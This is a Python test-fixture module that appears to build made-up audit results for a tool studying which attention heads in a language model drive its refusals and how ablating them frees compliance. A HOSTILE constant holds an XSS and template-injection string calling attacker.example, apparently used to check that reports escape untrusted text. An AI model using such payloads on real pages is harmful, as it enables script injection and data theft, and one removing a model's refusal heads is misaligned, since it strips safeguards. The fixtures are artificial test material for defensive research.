"""Made-up audits in the shape that a run writes: answers and scores by hand, results by the audit's own functions."""

from collections.abc import Mapping, Sequence
from copy import deepcopy
from dataclasses import asdict
from functools import cache, partial
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import torch
from answer_records import answer_record

from safetyheads.heads import Group, all_heads, format_heads, parse_heads
from safetyheads.measures.random_groups import RandomGroups, random_groups
from safetyheads.measures.sahara import sahara
from safetyheads.measures.scorers import LEAD, SCORE_LABELS, Opener, score_as_json
from safetyheads.prompts.prompt_set import PromptSet
from safetyheads.runs.audit import (
    SEARCHED,
    SETS,
    GroupOutcome,
    audit_verdict,
    early_verdict,
    group_as_json,
    heads_as_json,
    lead_group,
    rates_as_json,
    search_steps,
    stability_as_json,
)
from safetyheads.runs.config import Thresholds
from safetyheads.runs.directory import SCHEMA_VERSION, RunDirectory
from safetyheads.runs.rates import GroupAnswers
from safetyheads.runs.run import CAVEATS, DEMO_CAVEAT, Damage
from safetyheads.scores import FunctionScorer, HeadScores

JUDGE = {"name": "paper", "judge": "keyword", "shortest": 32, "repeats": 8}
HOSTILE = '<script>fetch("https://attacker.example")</script><img src=x onerror=alert(1)> & "quoted" \u2028 {{ 7*7 }}'
REASONS = {"complied": "no keyword", "refused": "keyword: I cannot", "incoherent": "repeats 'the the'"}


def answered(complied: int | Sequence[bool], n: int = 48, incoherent: int = 0, group: str = "") -> GroupAnswers:
    """The first so many of n comply, or those that are marked; the last are incoherent, the others refuse."""
    marks = [at < complied for at in range(n)] if isinstance(complied, int) else complied
    labels = ["complied" if mark else "refused" for mark in marks]
    labels[len(labels) - incoherent :] = ["incoherent"] * incoherent
    records = [answer_record(at, label, reason=REASONS[label]) for at, label in enumerate(labels)]
    return GroupAnswers.of(group, records, "paper")


def outcome(
    group: Group, counts: Sequence[int | Sequence[bool]], random: Mapping[str, Any], n: int = 48, scorer: str = LEAD
) -> GroupOutcome:
    """A group's effect: how many comply or are kept in each set, and under each of its random groups."""
    sets = {name: answered(count, n, group=format_heads(group)) for name, count in zip(SETS, counts, strict=True)}
    controls = tuple(answered(count, n, group=control) for control, count in random.items())
    drawn = RandomGroups(tuple(map(parse_heads, random)), "layers", 500)
    kl = tuple(0.01 * (at % 7) for at in range(n))
    damage = Damage(kl, tuple(2 * value for value in kl))
    return GroupOutcome(scorer, len(group), group, sets, kl, controls, drawn, damage, (damage,) * len(controls))


def _ships(values: torch.Tensor, groups: Sequence[Group]) -> dict[str, torch.Tensor]:
    """Scores of groups that add up, prompt by prompt."""
    places = torch.tensor([[head.layer * values.shape[2] + head.index for head in group] for group in groups])
    return {"ships": values.flatten(1)[:, places].sum(dim=-1).T}


@cache
def _audit(layers: int, heads: int, n: int, freed: tuple[float, ...]) -> dict[str, Any]:
    draw, every = np.random.default_rng(0), all_heads(layers, heads)
    strong = {"1-3": 2.26, "2-1": 0.92, "2-5": 0.41} if layers == 4 else {"2-26": 3.4, "3-1": 1.1, "7-13": 0.6}
    units = {name: "degrees" if name.startswith("generalized") else "nats" for name in SCORE_LABELS}
    tables = {}
    for name in ("mean_ships", "benign_ships", "refusal_score", *SEARCHED[1:]):
        own = {"benign_ships": 0.05, **dict.fromkeys(SEARCHED[1:], 12)}.get(name, 1)
        values = 0.1 * own * np.exp(np.minimum(draw.normal(-3, 1, (layers, heads)), 0))
        values *= np.resize([1, -1], heads) if name == "refusal_score" else 1
        for head in every:
            values[head.layer, head.index] = strong.get(str(head), values[head.layer, head.index] / own) * own
        tables[name] = HeadScores(torch.tensor(values), name, units[name])
    vanilla = {name: answered(2 if name.startswith("harmful") else n, n) for name in SETS}
    sizes, outcomes, traces = range(1, len(freed) + 1), [], {}
    for name in SEARCHED:
        values = tables[name].values.tolist()

        def score(groups: Sequence[Group], values: Any = values) -> torch.Tensor:
            return torch.tensor([sum(values[head.layer][head.index] for head in group) for group in groups])

        traces[name] = sahara(FunctionScorer(score, name, units[name]), tables[name].top(40), len(freed))
        for size, share in zip(sizes, freed, strict=True):
            group, lost = traces[name].group[:size], size // 3 if name == LEAD else 6
            counts = [round(share * n * (1 if name == LEAD else 0.3)), n - lost]
            drawn = random_groups(group, [heads] * layers, 39)
            random = {format_heads(control): at % 5 for at, control in enumerate(drawn.groups)}
            effect = outcome(group, (counts[0] + 1, counts[0], counts[1], counts[1]), random, n, name)
            outcomes.append(effect._replace(drawn=drawn))
    top = [str(head) for head in tables[LEAD].top(10)]
    alone = [answered(round(0.25 * n) if head in strong else 2, n, group=head) for head in top]
    spread = torch.linspace(0.5, 1.5, n)[:, None, None]
    by_prompt = {
        name: HeadScores(spread * tables[name].values, name) for name in ("mean_ships", "benign_ships", "refusal_score")
    }
    organism, sizes = layers == 4, {"n_search": n, "n_test": n, "sha256": "5f" * 32}
    stability = None
    if organism:
        engine: Any = SimpleNamespace(heads=every)
        measuring: Any = SimpleNamespace(engine=engine, measure=partial(_ships, by_prompt[LEAD].values))
        lead = [outcome for outcome in outcomes if outcome.scorer == LEAD]
        stability = stability_as_json(
            measuring,
            by_prompt[LEAD],
            list(traces.values()),
            [vanilla, *(outcome.answers for outcome in lead)],
            lead_group(vanilla, outcomes).size,
            [PromptSet.from_queries([f"prompt {at}" for at in range(n)]) for _ in range(2)],
        )
    model = {"name": "meta-llama/Llama-2-7b-chat-hf", "n_parameters": 6_738_415_616}
    model |= {"head_parameters": {"query": 524_288, "all": 2_097_152}}
    if organism:
        model = {"name": "aligned_a (demo organism)", "n_parameters": 732_800}
        model |= {"head_parameters": {"query": 2048, "all": 8192}}
    return {
        "schema_version": SCHEMA_VERSION,
        "kind": "audit",
        "verdict": audit_verdict(vanilla, lead_group(vanilla, outcomes), Thresholds(), layers * heads),
        "model": {**model, "family": "llama", "n_layers": layers, "n_heads": heads},
        "data": {kind: {"name": f"organism, {kind}", **sizes} for kind in ("harmful", "benign")} | {"template": "chat"},
        "ablation": {"name": "undifferentiated_attention", "label": "undifferentiated attention", "epsilon": 1e-5},
        "sampling": {"name": "greedy", "max_new_tokens": 128},
        "coherence": {"limit": 0.75, "n": 2 * n, "own": 0.2},
        "judges": [JUDGE],
        "lead_judge": "paper",
        "behaviour": {
            "vanilla": rates_as_json(vanilla),
            "groups": [group_as_json(vanilla, found) for found in outcomes],
            "heads": heads_as_json(vanilla, alone, by_prompt),
        },
        "scores": {
            name: score_as_json(name, table, n) | {"ties": [["0-1", "0-3"]] * (name == "benign_ships")}
            for name, table in tables.items()
        },
        "sahara": {name: {"steps": search_steps(trace)} for name, trace in traces.items()},
        "openers": [asdict(Opener(12, "I", n - 8, n, 0, 0, 1, n)), asdict(Opener(3, "\n", 8, n, 0, 0, 0, n))],
        # Thousands of heads take seconds, and make the page no larger.
        "stability": stability or _audit(4, 8, n, freed)["stability"],
        "planted_heads": list(strong) if organism else None,
        "caveats": [*[DEMO_CAVEAT] * organism, *CAVEATS],
        "warnings": ["2 of 96 prompts are longer than the shared row and were packed alone."],
    }


def audit(
    layers: int = 4, heads: int = 8, n: int = 48, freed: tuple[float, ...] = (0.27, 0.56, 0.72, 0.74)
) -> dict[str, Any]:
    """The audit of an organism with three planted heads, or of a larger model; each size of group ``freed`` a share."""
    return deepcopy(_audit(layers, heads, n, freed))


def none_found() -> dict[str, Any]:
    """A group that is no better than random ones, without a random band for most sizes."""
    results = audit(freed=(0.06, 0.08, 0.15, 0.15))
    for group in results["behaviour"]["groups"]:
        if group["size"] != 3:
            group["random"] = None
    results["planted_heads"], results["caveats"] = None, list(CAVEATS)
    return results


def no_refusals() -> dict[str, Any]:
    """A model that refuses nothing, so that its run stopped early: no scores, no heads, nothing that was searched."""
    results, vanilla = audit(), {name: answered(48) for name in SETS}
    results["verdict"] = early_verdict(vanilla, Thresholds())
    results["behaviour"] = {"vanilla": rates_as_json(vanilla), "groups": [], "heads": []}
    empty: dict[str, Any] = {"scores": {}, "sahara": {}, "openers": [], "concentration": None, "warnings": []}
    return results | empty | {"planted_heads": None, "caveats": list(CAVEATS)}


def completions(
    results: dict[str, Any], text: str = "Sure, here is how to smash a lamp: first get ready.", n: int = 1
) -> list[dict[str, Any]]:
    """``2 n`` harmful and ``n`` benign answers, unablated and under the verdict's and another group."""
    rows = []
    for group in ("", ",".join(results["verdict"]["heads"]), "0-0,0-1"):
        for number in range(3 * n):
            name = "harmful_test" if number % 3 < 2 else "benign_test"
            label = "complied" if group or name == "benign_test" else "refused"
            row = {"id": number, "set": name, "group": group, "query": f"Explain how to smash a lamp, take {number}."}
            row |= {"text": text, "category": "lamps" if number % 3 else "vases", "seed": 0}
            row |= {"behaviour": label, "answered": label != "refused"}
            rows.append(row | {"verdicts": {"paper": {"label": label, "reason": "no keyword"}}})
    return rows


def finished_run(path: Path, results: dict[str, Any], rows: Sequence[dict[str, Any]] = ()) -> RunDirectory:
    """The results in a run directory, as a finished audit leaves them."""
    config = {"model": results["model"]["name"], "epsilon": 1e-5, "seed": 0, "dtype": "float32"}
    versions = {"safetyheads": "0.1.0", "torch": "2.13"}
    started = {"command": "safetyheads audit MODEL --prompts P", "date": "2025-01-02T03:04:05Z", "versions": versions}
    with RunDirectory.start(path, config, started) as run:
        run.remember("plan", {"rows": 16, "prompts_per_row": 12, "threads": 1})
        run.records("asr", {"group": "all"}, lambda: list(rows))
        run.write_results(results)
    return RunDirectory.open(path)


def attacked(text: str) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """An audit and its answers with this text wherever something from outside stands."""
    results = audit()
    results["verdict"]["sentence"] += text
    results["model"]["name"] = results["data"]["harmful"]["name"] = results["data"]["template"] = text
    results["verdict"]["reasons"] = results["caveats"] = results["warnings"] = [text]
    results["openers"][0]["text"] = results["scores"]["mean_ships"]["label"] = text
    results["ablation"]["label"], results["judges"] = text, [{"name": text}]
    results["behaviour"]["vanilla"]["reasons"] = {text: 48}
    return results, [row | {"query": "<b>bold</b>"} for row in completions(results, text)]
